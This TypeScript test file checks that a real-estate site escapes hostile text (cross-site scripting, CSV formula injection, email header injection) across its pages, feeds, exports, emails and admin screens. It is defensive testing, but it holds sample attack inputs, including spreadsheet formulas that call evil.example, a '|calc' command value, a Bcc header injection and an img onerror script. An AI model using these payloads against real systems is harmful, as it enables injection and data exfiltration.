import { beforeAll, describe, expect, test } from 'vitest'
import { parseXml } from '#app/shared/xml/parse-xml.test-builder.ts'
import { csvLines } from '#app/features/inquiries/admin/inbox/inquiry-csv.ts'
import { hasBrowser, useBrowser } from '../e2e/support/browser.ts'
import type { Site } from '../e2e/support/site.ts'
import { signInOnPage } from '../e2e/support/admin.ts'
import { attack } from './support/attacked-site.ts'
import { type HostileSite, seedHostileText } from './support/seed-hostile-text.ts'
import { hostile, parseStructuredData, findExecutableCode } from './support/hostile-text.ts'
import { readEmails } from './support/emails.ts'

const attacked = attack()
const { address, dataDir, password, sendRequest, post, sql, as } = attacked
let site: HostileSite

beforeAll(async () => {
  site = await seedHostileText(attacked)
})

const shown = [
  ['home', () => '/'],
  ['every listing', () => '/projects?sort=newest'],
  ['sale', () => '/properties-for-sale?sort=newest'],
  ['land', () => '/land-for-sale?sort=newest'],
  ['a property', () => `/property/${site.propertyId}`],
  ['land listings', () => `/property/${site.landId}`],
  ['the contact form about a property', () => `/contact?property=${site.propertyId}`],
  ['the contact form', () => '/contact'],
  ['the form that asks for a viewing', () => `/viewings/new?property=${site.propertyId}`],
  ['a comparison', () => `/compare?ids=${site.propertyId},${site.landId}`],
  ['the blog', () => '/blog'],
  ['a blog category', () => `/blog?category=${encodeURIComponent(hostile.short)}`],
  ['a post', () => `/blog/${site.blogSlug}`],
  ['the about page', () => '/about'],
  ['a service', () => '/market-analysis'],
  ['the chat', () => '/chat'],
  ['the newsletter', () => '/newsletter'],
  ['privacy', () => '/privacy'],
  ['terms', () => '/terms'],
  ['cookies', () => '/cookies'],
  ['personal data', () => '/personal-data'],
  ['saving a search', () => '/saved-searches/new?search=%2Fprojects'],
  ['the saved list', () => '/saved'],
  ['the widget', () => '/embed'],
  ['the data page', () => '/api'],
  ['nothing', () => '/nowhere'],
  ['the admin layout', () => '/admin'],
] as const

describe('stored hostile text is escaped', () => {
  test.each(shown)('on the page of %s', async (_, path) => {
    const response = await sendRequest(path())
    const html = await response.text()
    expect(response.status).toBeLessThan(500)
    expect(findExecutableCode(html)).toEqual([])
    expect(() => parseStructuredData(html)).not.toThrow()
    // Escaped once, not twice, and not dropped: the text is shown.
    const showsListings = /property\/|blog\/[a-z0-9]/.test(path())
    expect(html).toContain(showsListings ? '&lt;img src=x onerror' : '<')
  })

  test.each([
    '/properties/feed.xml',
    '/properties/atom.xml',
    '/properties-for-sale/feed.xml',
    '/land-for-sale/atom.xml',
    '/blog/feed.xml',
    '/sitemap.xml',
  ])('in %s, which stays well-formed', async (path) => {
    const response = await sendRequest(path)
    const text = await response.text()
    expect(() => parseXml(text)).not.toThrow()
    expect(response.headers.get('content-type')).toMatch(/xml/)
    expect(text).not.toMatch(/<(script|svg|img)/)
    expect(text).not.toContain('<![CDATA[')
  })

  test.each(['/feeds/reso.json', '/api/openapi.json'])('in %s, which no browser treats as a page', async (path) => {
    const response = await sendRequest(path)
    expect(response.headers.get('content-type')).toMatch(/^application\/json/)
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(() => JSON.parse('{}')).not.toThrow()
    JSON.parse(await response.text())
  })

  test.each(['/feeds/meta.csv', '/feeds/google.csv'])('in %s, where no cell starts a formula', async (path) => {
    const response = await sendRequest(path)
    const cells = parseCsv(await response.text()).flat()
    expect(cells.length).toBeGreaterThan(50)
    expect(cells.filter((cell) => /^[=@\t\r]|^[+-](?![\d.]+$)/.test(cell))).toEqual([])
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
  })

  test.each([
    hostile.formula,
    '+1+1',
    '-2+3+cmd|1',
    '@SUM(1)',
    '\t=1+1',
    '\r\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '"=1+1',
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")',
    "'=1+1",
    '|calc',
  ])('in the file of inquiries: %j', (text) => {
    const row = { id: '0', created_at: '', name: text, email: text, phone: text, inquiry_type: text }
    const file = csvLines(
      [
        {
          ...row,
          service_interest: text,
          property_title: text,
          status: text,
          assignee: text,
          message: text,
        } as never,
      ],
      new Map([[text, text]]),
    )
    for (const cell of parseCsv(file).flat()) expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@|＝＋－＠]/u)
  })

  test('in every email about an inquiry, and is in no header', async () => {
    const email = 'hostile-letter@attacked.example'
    await post('/contact', {
      fullName: hostile.line,
      email,
      message: `${hostile.script}\n${hostile.line}\nBcc: victim@evil.example`,
      propertyId: site.propertyId,
    })
    const found = () => readEmails(dataDir).filter(({ raw, html }) => (raw + html).includes(email))
    await expect.poll(() => found().length).toBeGreaterThan(0)
    for (const { html, headers, subject } of readEmails(dataDir)) {
      expect(findExecutableCode(html)).toEqual([])
      expect(headers.filter((name) => /^(b?cc|x-evil)$/i.test(name))).toEqual([])
      expect(headers.filter((name) => /^(to|from|subject|message-id)$/i.test(name)).length).toBeLessThanOrEqual(4)
      expect(subject).not.toMatch(/[\r\n]/)
    }
  })
})

describe('hostile text in a request is escaped', () => {
  const payloads = Object.values(hostile)
  const echoes = [
    '/projects?q=',
    '/properties-for-sale?feature=',
    '/blog?q=',
    '/blog?category=',
    '/contact?service=',
    '/viewings/new?property=',
    '/viewings/new?unit=',
    '/contact?type=',
  ]
    .concat([
      '/contact?property=',
      '/compare?ids=',
      '/saved-searches/new?search=',
      '/saved-searches/new?search=%2Fprojects%3Fq%3D',
      '/saved-searches/',
    ])
    .concat([
      '/embed?q=',
      '/embed?list=',
      '/newsletter/confirm?token=',
      '/newsletter/unsubscribe?token=',
      '/personal-data/view?token=',
    ])
    .concat([
      '/property/',
      '/blog/',
      '/nowhere/',
      '/admin/reset?token_hash=',
      '/admin/join?token_hash=',
      '/projects?',
      '/admin/',
    ])

  test.each(echoes)('%s', async (path) => {
    for (const payload of payloads) {
      const response = await sendRequest(path + encodeURIComponent(payload))
      const html = await response.text()
      expect(response.status).toBeLessThan(500)
      expect(findExecutableCode(html)).toEqual([])
      expect(() => parseStructuredData(html)).not.toThrow()
    }
  })

  test.each([
    [
      '/contact',
      ['fullName', 'email', 'phone', 'message', 'service', 'inquiryType', 'propertyId', 'renderedAt', 'website'],
    ],
    ['/newsletter', ['email']],
    ['/personal-data', ['email']],
    ['/saved-searches/new?search=%2Fprojects', ['email', 'frequency']],
    ['/chat', ['fullName', 'email', 'message', 'propertyId']],
  ])('%s escapes its input', async (path, fields) => {
    for (const payload of payloads) {
      const response = await post(path, Object.fromEntries(fields.map((field) => [field, payload])))
      expect(response.status).toBeLessThan(500)
      expect(findExecutableCode(await response.text())).toEqual([])
    }
  })

  test.each(['/rest/v1/', '/auth/v1/verify?token=', '/media/', '/feeds/', '/healthz?'])(
    '%s returns no page',
    async (path) => {
      for (const payload of payloads) {
        const response = await sendRequest(path + encodeURIComponent(payload))
        const type = response.headers.get('content-type') ?? ''
        expect(response.headers.get('x-content-type-options')).toBe('nosniff')
        expect(type.startsWith('text/html') ? findExecutableCode(await response.text()) : []).toEqual([])
      }
    },
  )
})

describe.skipIf(!hasBrowser)('hostile text does not run in a browser', () => {
  const open = useBrowser({ address } as Site)

  const inBrowser = new Set([
    'home',
    'every listing',
    'a property',
    'the form about one',
    'a comparison',
    'a post',
    'the company',
  ])
  test.each(shown.filter(([name]) => inBrowser.has(name)))('on the page of %s', async (_, path) => {
    // Missing images are part of the seeded content.
    const page = await open(path(), { expects: [/Failed to load resource/] })
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.mouse.wheel(0, 4_000)
    await page.keyboard.press('Tab')
    expect(dialogs).toEqual([])
    expect(await page.locator('img[src="x"], [onerror], [onload], svg script').count()).toBe(0)
  })

  test('in the admin area, on every screen that shows it', async () => {
    const page = await open('/admin', { expects: [/Failed to load resource/] })
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await signInOnPage(page, { email: 'super-admin@attacked.example', password })
    const screens = [
      '/admin/dashboard',
      '/admin/properties',
      `/admin/properties/edit/${site.propertyId}`,
      '/admin/inquiries',
      `/admin/inquiries?inquiry=${site.inquiryId}`,
      '/admin/blogs',
      `/admin/blogs/edit/${site.blogId}`,
      '/admin/staff',
      '/admin/activity',
      '/admin/mail',
      '/admin/viewings',
      '/admin/settings',
      '/admin/analytics',
      '/admin/profile',
    ]
    for (const screen of screens) {
      await page.goto(screen)
      await page.locator('[data-slot="admin-frame"] h1').first().waitFor()
      await page.locator('[data-skeleton]').first().waitFor({ state: 'detached' })
      expect(await page.locator('img[src="x"], [onerror], [onload], svg script').count()).toBe(0)
    }
    expect(dialogs).toEqual([])
  })

  test('and the content security policy would block anything missed', async () => {
    const page = await open('/about', { expects: [/Content Security Policy/, /Failed to load resource/] })
    const ran = await page.evaluate(async () => {
      const holder = document.createElement('div')
      holder.innerHTML = '<img src="/nowhere.png" onerror="window.ran = 1">'
      const script = document.createElement('script')
      script.textContent = 'window.ran = 2'
      document.body.append(holder, script)
      const { promise, resolve } = Promise.withResolvers<void>()
      holder.querySelector('img')?.addEventListener('error', () => resolve())
      await promise
      return 'ran' in window
    })
    expect(ran).toBe(false)
  })
})

describe('rich text', () => {
  test('contains only allowed elements after a hostile post is saved', async () => {
    const html = await (await sendRequest(`/blog/${site.blogSlug}`)).text()
    const body = /<main[\s\S]*<\/main>/.exec(html)?.[0] ?? ''
    expect(findExecutableCode(body, { isFragment: true })).toEqual([])
    expect(body).not.toMatch(/<(iframe|math|style|object|form action="http)/)
  })

  test('cannot be stored by a visitor at all', async () => {
    const { error } = await as('visitor').from('blogs').insert({ title: 'x', content: 'x', excerpt: 'x' })
    expect(error?.code).toBe('42501')
    expect(await sql`select 1 from public.blogs where title = 'x'`).toHaveLength(0)
  })
})

/** Parses RFC 4180 strictly enough to find the cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r?\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end !== ',' && end !== '') rows.push([])
    if (end === '') break
  }
  return rows
}
